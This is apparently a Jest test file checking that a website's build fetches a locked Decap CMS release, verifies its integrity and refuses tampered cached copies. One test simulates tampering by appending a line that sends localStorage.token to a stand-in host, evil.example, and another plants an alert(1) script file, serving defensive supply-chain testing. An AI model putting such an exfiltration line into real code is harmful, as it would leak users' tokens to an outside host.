/** @jest-environment node */
// The editor's Decap CMS release is declared and locked in src/editor/decap/editor-package/, where Dependabot and `npm audit`
// see it; the build fetches exactly what that lock records, refuses anything else, and the site's own install stays
// without it. The fetching runs against a stand-in `npm`, so no test reaches the registry.
import { execFileSync } from "child_process"
import { createHash } from "crypto"
import fs from "fs"
import os from "os"
import path from "path"
import { parse } from "yaml"
import { editorBundleFiles, editorPackageFolder, lockedEditorRelease } from "../editor-bundle"

jest.setTimeout(30_000)

const projectRoot = path.join(__dirname, `..`, `..`, `..`)
const readJson = (file: string) => JSON.parse(fs.readFileSync(file, `utf8`))

let work: string
let tarball: string
let tarballIntegrity: string
let npmCalls: string
let standInNpm: string

beforeAll(() => {
  work = fs.mkdtempSync(path.join(os.tmpdir(), `milk-patrol-editor-bundle-test-`))
  // A decap-cms tarball in miniature: the bundle, a chunk and WebAssembly it loads, and what the page does not need.
  const dist = path.join(work, `tarball`, `package`, `dist`)
  fs.mkdirSync(dist, { recursive: true })
  for (const file of [`decap-cms.js`, `512.decap-cms.js`, `sql.wasm`, `cms.js`, `decap-cms.js.map`])
    fs.writeFileSync(path.join(dist, file), `// ${file}\n`)
  tarball = path.join(work, `decap-cms.tgz`)
  execFileSync(`tar`, [`-czf`, tarball, `-C`, path.join(work, `tarball`), `package`])
  tarballIntegrity = `sha512-${createHash(`sha512`).update(fs.readFileSync(tarball)).digest(`base64`)}`

  // `npm pack <spec> --json --pack-destination <folder>`, answered with the tarball above and its true integrity.
  npmCalls = path.join(work, `npm-calls.txt`)
  standInNpm = path.join(work, `npm`)
  fs.writeFileSync(
    standInNpm,
    `#!/usr/bin/env node
const fs = require("fs"), path = require("path")
const args = process.argv.slice(2)
fs.appendFileSync(${JSON.stringify(npmCalls)}, args.join(" ") + "\\n")
const filename = args[1].replace("@", "-") + ".tgz"
fs.copyFileSync(${JSON.stringify(tarball)}, path.join(args[args.indexOf("--pack-destination") + 1], filename))
console.log(JSON.stringify([{ filename, integrity: ${JSON.stringify(tarballIntegrity)} }]))
`,
    { mode: 0o755 },
  )
})

afterAll(() => {
  fs.rmSync(work, { recursive: true, force: true })
})

beforeEach(() => fs.rmSync(npmCalls, { force: true }))

const askedOfNpm = () => (fs.existsSync(npmCalls) ? fs.readFileSync(npmCalls, `utf8`) : ``)

/** A project whose editor package declares `declared` and whose lock records `locked` with `integrity`. */
function projectWithEditorPackage(declared: string, locked: string, integrity: string): string {
  const project = fs.mkdtempSync(path.join(work, `project-`))
  const folder = path.join(project, editorPackageFolder)
  fs.mkdirSync(folder, { recursive: true })
  fs.writeFileSync(
    path.join(folder, `package.json`),
    JSON.stringify({ dependencies: { "decap-cms": declared } }),
  )
  fs.writeFileSync(
    path.join(folder, `package-lock.json`),
    JSON.stringify({
      lockfileVersion: 3,
      packages: {
        "": { dependencies: { "decap-cms": locked } },
        "node_modules/decap-cms": { version: locked, integrity },
      },
    }),
  )
  return project
}

test(`the build fetches the release the editor's lock records, and keeps only the files the page loads`, async () => {
  const project = projectWithEditorPackage(`9.9.9`, `9.9.9`, tarballIntegrity)

  const files = await editorBundleFiles(project, standInNpm)

  expect(askedOfNpm()).toMatch(/^pack decap-cms@9\.9\.9 /)
  const kept = path.join(project, `node_modules`, `.cache`, `decap-cms-9.9.9`)
  expect(files.map((file) => path.relative(kept, file)).sort()).toEqual([
    `512.decap-cms.js`,
    `decap-cms.js`,
    `sql.wasm`,
  ])
  // Kept for the next build, which asks nothing of npm.
  fs.rmSync(npmCalls)
  expect(await editorBundleFiles(project, standInNpm)).toEqual(files)
  expect(askedOfNpm()).toBe(``)
})

test(`builds and test workers fetching the release at once each get the whole of it`, async () => {
  // The browser suite's two workers, or a build beside `npm run cms`, on a machine that has not kept it yet.
  const project = projectWithEditorPackage(`9.9.9`, `9.9.9`, tarballIntegrity)

  const handedOut = await Promise.all(Array.from({ length: 6 }, () => editorBundleFiles(project, standInNpm)))

  for (const files of handedOut) expect(files).toEqual(handedOut[0])
  expect(handedOut[0]).toHaveLength(3)
  expect(fs.readdirSync(path.join(project, `node_modules`, `.cache`))).toEqual([`decap-cms-9.9.9`])
})

test(`a kept folder cut short (no tarball) is fetched again whole`, async () => {
  const project = projectWithEditorPackage(`9.9.9`, `9.9.9`, tarballIntegrity)
  const kept = path.join(project, `node_modules`, `.cache`, `decap-cms-9.9.9`)
  fs.mkdirSync(kept, { recursive: true })
  fs.writeFileSync(path.join(kept, `decap-cms.js`), `// cut short\n`)

  expect(await editorBundleFiles(project, standInNpm)).toHaveLength(3)
  expect(fs.readFileSync(path.join(kept, `decap-cms.js`), `utf8`)).toBe(`// decap-cms.js\n`)
  expect(fs.readdirSync(path.dirname(kept))).toEqual([`decap-cms-9.9.9`])
})

test(`a fetch removes the copies that a fetch stopped halfway left beside the kept folder, not one still at work`, async () => {
  const project = projectWithEditorPackage(`9.9.9`, `9.9.9`, tarballIntegrity)
  const cache = path.join(project, `node_modules`, `.cache`)
  const twoHoursAgo = new Date(Date.now() - 2 * 60 * 60_000)
  for (const name of [
    `decap-cms-9.9.9.partial-killed`,
    `decap-cms-9.9.9.stale-1234-1`,
    `decap-cms-9.9.9.partial-now`,
  ]) {
    fs.mkdirSync(path.join(cache, name, `.unpack-x`), { recursive: true })
    fs.writeFileSync(path.join(cache, name, `decap-cms.js`), `// half\n`)
    if (!name.endsWith(`-now`)) fs.utimesSync(path.join(cache, name), twoHoursAgo, twoHoursAgo)
  }

  expect(await editorBundleFiles(project, standInNpm)).toHaveLength(3)
  expect(fs.readdirSync(cache).sort()).toEqual([`decap-cms-9.9.9`, `decap-cms-9.9.9.partial-now`])
})

test.each([
  [`a kept file`, `512.decap-cms.js`, `512.decap-cms.js is not the tarball's`],
  [`the kept tarball`, `release.tgz`, `its tarball's integrity is sha512-`],
])(
  `%s changed after it was fetched (a host's cache, a local edit) stops the next copy`,
  async (_what, file, saying) => {
    const project = projectWithEditorPackage(`9.9.9`, `9.9.9`, tarballIntegrity)
    await editorBundleFiles(project, standInNpm)
    const kept = path.join(project, `node_modules`, `.cache`, `decap-cms-9.9.9`)
    fs.appendFileSync(path.join(kept, file), `;fetch("https://evil.example/?" + localStorage.token)`)

    await expect(editorBundleFiles(project, standInNpm)).rejects.toThrow(
      `The kept copy of the content editor's bundle (decap-cms@9.9.9) has changed since it was fetched: ${saying}`,
    )
  },
)

test(`a kept file the tarball does not hold stops the next copy`, async () => {
  const project = projectWithEditorPackage(`9.9.9`, `9.9.9`, tarballIntegrity)
  await editorBundleFiles(project, standInNpm)
  const kept = path.join(project, `node_modules`, `.cache`, `decap-cms-9.9.9`)
  fs.writeFileSync(path.join(kept, `666.decap-cms.js`), `alert(1)`)

  await expect(editorBundleFiles(project, standInNpm)).rejects.toThrow(/where the tarball has/)
})

test(`a tarball that is not the one the lock records is refused, and nothing of it is kept`, async () => {
  const otherIntegrity = `sha512-${createHash(`sha512`).update(`another decap-cms`).digest(`base64`)}`
  const project = projectWithEditorPackage(`9.9.9`, `9.9.9`, otherIntegrity)

  await expect(editorBundleFiles(project, standInNpm)).rejects.toThrow(
    `decap-cms@9.9.9 from the npm registry is not the one src/editor/decap/editor-package/package-lock.json locks`,
  )
  expect(fs.existsSync(path.join(project, `node_modules`, `.cache`, `decap-cms-9.9.9`))).toBe(false)
})

test(`a version changed in package.json but not locked again stops the build with the command that fixes it`, async () => {
  const project = projectWithEditorPackage(`9.9.10`, `9.9.9`, tarballIntegrity)

  await expect(editorBundleFiles(project, standInNpm)).rejects.toThrow(
    `src/editor/decap/editor-package/package.json asks for decap-cms 9.9.10, but its package-lock.json locks 9.9.9: ` +
      `run \`npm install --package-lock-only --ignore-scripts\` in src/editor/decap/editor-package.`,
  )
  expect(askedOfNpm()).toBe(``)
})

test(`the project's editor package declares one exact decap-cms release, and its lock records that release`, async () => {
  const folder = path.join(projectRoot, editorPackageFolder)
  const declared = readJson(path.join(folder, `package.json`)).dependencies[`decap-cms`]
  const lock = readJson(path.join(folder, `package-lock.json`))

  expect(declared).toMatch(/^\d+\.\d+\.\d+$/)
  expect(lock.packages[``].dependencies[`decap-cms`]).toBe(declared)
  expect(await lockedEditorRelease(projectRoot)).toEqual({
    name: `decap-cms`,
    version: declared,
    integrity: lock.packages[`node_modules/decap-cms`].integrity,
  })
  expect(lock.packages[`node_modules/decap-cms`].integrity).toMatch(/^sha512-/)
})

test(`the site's own install leaves the editor's packages out`, () => {
  const site = readJson(path.join(projectRoot, `package.json`))
  const siteLock = readJson(path.join(projectRoot, `package-lock.json`))

  expect(site.workspaces).toBeUndefined()
  expect({ ...site.dependencies, ...site.devDependencies }).not.toHaveProperty(`decap-cms`)
  expect(Object.keys(siteLock.packages).filter((where) => where.includes(`decap-cms`))).toEqual([])
})

test(`Dependabot proposes updates weekly for the site, the editor's release and the workflows' actions`, () => {
  const { updates } = parse(fs.readFileSync(path.join(projectRoot, `.github`, `dependabot.yml`), `utf8`)) as {
    updates: {
      "package-ecosystem": string
      directory: string
      schedule: { interval: string }
      groups?: object
    }[]
  }

  expect(updates.map((update) => [update[`package-ecosystem`], update.directory])).toEqual([
    [`npm`, `/`],
    [`npm`, `/${editorPackageFolder}`],
    [`github-actions`, `/`],
  ])
  for (const update of updates) {
    expect(update.schedule.interval).toBe(`weekly`)
    expect(Object.keys(update.groups ?? {}).length).toBeGreaterThan(0)
  }
})
